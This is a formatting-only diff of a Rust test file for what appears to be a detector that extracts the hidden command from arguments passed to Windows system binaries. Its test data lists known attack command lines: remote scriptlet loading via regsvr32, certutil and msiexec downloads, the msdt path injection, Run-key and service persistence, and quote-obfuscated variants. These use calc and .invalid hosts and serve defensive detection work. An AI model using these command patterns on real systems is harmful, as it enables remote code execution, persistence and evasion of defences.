@@ -21,44 +21,112 @@ fn next(stem: &str, text: &str) -> Vec<String> {
 #[test]
 fn published() {
     for (stem, text, expected) in [
-        ("mshta", "vbscript:Close(Execute(\"x\"))", "vb: Close(Execute(\"x\"))"),
+        (
+            "mshta",
+            "vbscript:Close(Execute(\"x\"))",
+            "vb: Close(Execute(\"x\"))",
+        ),
         ("mshta", "\"javascript:a=1;close()\"", "js: a=1;close()"),
         ("mshta", "javascript:a=%22x%22", "js: a=\"x\""),
-        ("mshta", "\"about:<script language=vbscript>x</script>\"", "vb: x"),
-        ("mshta", "\"about:&lt;script&gt;x()&lt;/script&gt;\"", "js: x()"),
+        (
+            "mshta",
+            "\"about:<script language=vbscript>x</script>\"",
+            "vb: x",
+        ),
+        (
+            "mshta",
+            "\"about:&lt;script&gt;x()&lt;/script&gt;\"",
+            "js: x()",
+        ),
         ("mshta", "http://x.invalid/a.hta", ""),
         (
             "rundll32",
             "javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write();a%20=1",
             "js: \"\\..\\mshtml,RunHTMLApplication \";document.write();a =1",
         ),
-        ("rundll32", "shell32.dll,ShellExec_RunDLL cmd.exe /c calc", "cmd.exe /c calc"),
-        ("rundll32", "SHELL32,ShellExec_RunDLLA \"cmd.exe\" /c calc", "\"cmd.exe\" /c calc"),
-        ("rundll32", "url.dll,OpenURL file:///C:/test/a.hta", "file:///C:/test/a.hta"),
-        ("rundll32", "url.dll,FileProtocolHandler calc.exe", "calc.exe"),
+        (
+            "rundll32",
+            "shell32.dll,ShellExec_RunDLL cmd.exe /c calc",
+            "cmd.exe /c calc",
+        ),
+        (
+            "rundll32",
+            "SHELL32,ShellExec_RunDLLA \"cmd.exe\" /c calc",
+            "\"cmd.exe\" /c calc",
+        ),
+        (
+            "rundll32",
+            "url.dll,OpenURL file:///C:/test/a.hta",
+            "file:///C:/test/a.hta",
+        ),
+        (
+            "rundll32",
+            "url.dll,FileProtocolHandler calc.exe",
+            "calc.exe",
+        ),
         ("rundll32", "url.dll,OpenURL http://x.invalid/", ""),
-        ("rundll32", "advpack.dll,RegisterOCX \"cmd.exe /c calc\"", "cmd.exe /c calc"),
+        (
+            "rundll32",
+            "advpack.dll,RegisterOCX \"cmd.exe /c calc\"",
+            "cmd.exe /c calc",
+        ),
         ("rundll32", "ieadvpack.dll,RegisterOCX calc.exe", "calc.exe"),
         ("rundll32", "zipfldr.dll,RouteTheCall calc.exe", "calc.exe"),
-        ("rundll32", "pcwutl.dll,LaunchApplication calc.exe", "calc.exe"),
-        ("rundll32", "\"C:\\Windows\\System32\\pcwutl.dll\" LaunchApplication calc.exe", "calc.exe"),
+        (
+            "rundll32",
+            "pcwutl.dll,LaunchApplication calc.exe",
+            "calc.exe",
+        ),
+        (
+            "rundll32",
+            "\"C:\\Windows\\System32\\pcwutl.dll\" LaunchApplication calc.exe",
+            "calc.exe",
+        ),
         ("rundll32", "shell32.dll,#44 calc.exe", "calc.exe"),
         ("rundll32", "user32.dll,LockWorkStation", ""),
-        ("rundll32", "setupapi.dll,InstallHinfSection DefaultInstall 128 c:\\a.inf", ""),
+        (
+            "rundll32",
+            "setupapi.dll,InstallHinfSection DefaultInstall 128 c:\\a.inf",
+            "",
+        ),
         ("wmic", "process call create \"cmd /c calc\"", "cmd /c calc"),
         ("wmic", "process call create calc", "calc"),
-        ("wmic", "/node:\"h\" process call create 'calc.exe'", "calc.exe"),
+        (
+            "wmic",
+            "/node:\"h\" process call create 'calc.exe'",
+            "calc.exe",
+        ),
         ("wmic", "process call create \"calc\",\"c:\\\"", "calc"),
-        ("wmic", "process call create \"cmd /c \\\"calc\\\"\"", "cmd /c \"calc\""),
+        (
+            "wmic",
+            "process call create \"cmd /c \\\"calc\\\"\"",
+            "cmd /c \"calc\"",
+        ),
         ("wmic", "os get /format:\"http://x.invalid/a.xsl\"", ""),
-        ("forfiles", "/p c:\\windows\\system32 /m notepad.exe /c calc.exe", "calc.exe"),
-        ("forfiles", "/m a.txt /c \"cmd /c echo 0x22@file0x22\"", "cmd /c echo \"@file\""),
+        (
+            "forfiles",
+            "/p c:\\windows\\system32 /m notepad.exe /c calc.exe",
+            "calc.exe",
+        ),
+        (
+            "forfiles",
+            "/m a.txt /c \"cmd /c echo 0x22@file0x22\"",
+            "cmd /c echo \"@file\"",
+        ),
         ("pcalua", "-a calc.exe", "calc.exe"),
         ("pcalua", "-a cmd.exe -c /c calc", "cmd.exe /c calc"),
         ("conhost", "--headless cmd.exe /c calc", "cmd.exe /c calc"),
         ("conhost", "calc.exe", "calc.exe"),
-        ("explorer", "/root,\"C:\\Windows\\System32\\calc.exe\"", "C:\\Windows\\System32\\calc.exe"),
-        ("explorer", "C:\\Windows\\System32\\notepad.exe", "C:\\Windows\\System32\\notepad.exe"),
+        (
+            "explorer",
+            "/root,\"C:\\Windows\\System32\\calc.exe\"",
+            "C:\\Windows\\System32\\calc.exe",
+        ),
+        (
+            "explorer",
+            "C:\\Windows\\System32\\notepad.exe",
+            "C:\\Windows\\System32\\notepad.exe",
+        ),
         ("explorer", "C:\\Users", ""),
         (
             "schtasks",
@@ -66,10 +134,22 @@ fn published() {
             "cmd /c calc",
         ),
         ("schtasks", "/query", ""),
-        ("at", "\\\\h 09:00 /interactive /every:m,t cmd /c calc", "cmd /c calc"),
-        ("sc", "create x binPath= \"cmd /c calc\" start= auto", "cmd /c calc"),
+        (
+            "at",
+            "\\\\h 09:00 /interactive /every:m,t cmd /c calc",
+            "cmd /c calc",
+        ),
+        (
+            "sc",
+            "create x binPath= \"cmd /c calc\" start= auto",
+            "cmd /c calc",
+        ),
         ("sc", "config x binPath=\"calc\"", "calc"),
-        ("reg", "add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /t REG_SZ /d \"calc.exe\" /f", "calc.exe"),
+        (
+            "reg",
+            "add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /t REG_SZ /d \"calc.exe\" /f",
+            "calc.exe",
+        ),
         ("reg", "add HKCU\\Software\\X /v y /d 2", ""),
         (
             "bitsadmin",
@@ -95,16 +175,28 @@ fn published() {
             "invoke Create wmicimv2/Win32_Process @{CommandLine=\"calc\"} -r:http://h:5985",
             "calc",
         ),
-        ("syncappvpublishserver", "\"n;(New-Object x).y()\"", "ps: (New-Object x).y()"),
+        (
+            "syncappvpublishserver",
+            "\"n;(New-Object x).y()\"",
+            "ps: (New-Object x).y()",
+        ),
         (
             "msdt",
             "/id PCWDiagnostic /skip force /param \"IT_BrowseForFile=/../../$(Invoke-Expression('calc'))/a.exe\"",
             "ps: Invoke-Expression('calc')",
         ),
         ("certutil", "-urlcache -split -f http://x.invalid/a a", ""),
-        ("regsvr32", "/s /n /u /i:http://x.invalid/a.sct scrobj.dll", ""),
+        (
+            "regsvr32",
+            "/s /n /u /i:http://x.invalid/a.sct scrobj.dll",
+            "",
+        ),
         ("msiexec", "/q /i http://x.invalid/a.msi", ""),
-        ("cscript", "//nologo //e:vbscript c:\\a.txt", "//nologo //e:vbscript c:\\a.txt"),
+        (
+            "cscript",
+            "//nologo //e:vbscript c:\\a.txt",
+            "//nologo //e:vbscript c:\\a.txt",
+        ),
         ("control", "c:\\a.cpl", "c:\\a.cpl"),
         ("hh", "http://x.invalid/a.chm", ""),
     ] {
@@ -120,9 +212,21 @@ fn published() {
 #[test]
 fn spellings_are_undone() {
     for (stem, text, clear) in [
-        ("certutil", "-ur\"l\"cache -sp\"lit\" -f http://x.invalid/a", "-urlcache -split -f http://x.invalid/a"),
-        ("certutil", "\u{2013}urlcache \u{2014}f http://x.invalid/a", "-urlcache -f http://x.invalid/a"),
-        ("regsvr32", "/s /n /u /i:ht\"\"tp://x.invalid/a.sct scro\"b\"j.dll", "/s /n /u /i:http://x.invalid/a.sct scrobj.dll"),
+        (
+            "certutil",
+            "-ur\"l\"cache -sp\"lit\" -f http://x.invalid/a",
+            "-urlcache -split -f http://x.invalid/a",
+        ),
+        (
+            "certutil",
+            "\u{2013}urlcache \u{2014}f http://x.invalid/a",
+            "-urlcache -f http://x.invalid/a",
+        ),
+        (
+            "regsvr32",
+            "/s /n /u /i:ht\"\"tp://x.invalid/a.sct scro\"b\"j.dll",
+            "/s /n /u /i:http://x.invalid/a.sct scrobj.dll",
+        ),
     ] {
         let pool = Pool::new(64 << 20);
         let mut fuel = Fuel::of(text.len(), &pool);
@@ -136,7 +240,10 @@ fn spellings_are_undone() {
 #[test]
 fn plain_arguments_stay() {
     for (stem, text) in [
-        ("certutil", "-urlcache -split -f http://x.invalid/a \"c:\\a b\""),
+        (
+            "certutil",
+            "-urlcache -split -f http://x.invalid/a \"c:\\a b\"",
+        ),
         ("regsvr32", "/s /i:\"http://x.invalid/a.sct\" scrobj.dll"),
         ("excel", "[Book1.xlsx]Sheet1"),
         ("net", "use \\\\h\\s"),
@@ -148,7 +255,11 @@ fn plain_arguments_stay() {
     ] {
         let pool = Pool::new(64 << 20);
         let mut fuel = Fuel::of(text.len(), &pool);
-        assert_eq!(arguments(stem, text, &mut fuel), Outcome::default(), "{stem} {text}");
+        assert_eq!(
+            arguments(stem, text, &mut fuel),
+            Outcome::default(),
+            "{stem} {text}"
+        );
     }
 }
 
@@ -165,10 +276,38 @@ fn chains() {
 
 #[test]
 fn bounds() {
-    for piece in ["\"", "\\", "-c ", "0x22", "$(", "call create ", "%41", "&#x61;", "-o ProxyCommand=a ", "<script>", "javascript:", "a,", "binpath= "] {
+    for piece in [
+        "\"",
+        "\\",
+        "-c ",
+        "0x22",
+        "$(",
+        "call create ",
+        "%41",
+        "&#x61;",
+        "-o ProxyCommand=a ",
+        "<script>",
+        "javascript:",
+        "a,",
+        "binpath= ",
+    ] {
         let text = piece.repeat(50_000);
         for stem in [
-            "at", "bitsadmin", "forfiles", "msdt", "mshta", "pcalua", "reg", "rundll32", "sc", "ssh", "wmic", "wsl", "certutil", "explorer", "winrm",
+            "at",
+            "bitsadmin",
+            "forfiles",
+            "msdt",
+            "mshta",
+            "pcalua",
+            "reg",
+            "rundll32",
+            "sc",
+            "ssh",
+            "wmic",
+            "wsl",
+            "certutil",
+            "explorer",
+            "winrm",
         ] {
             let start = std::time::Instant::now();
             next(stem, &text);
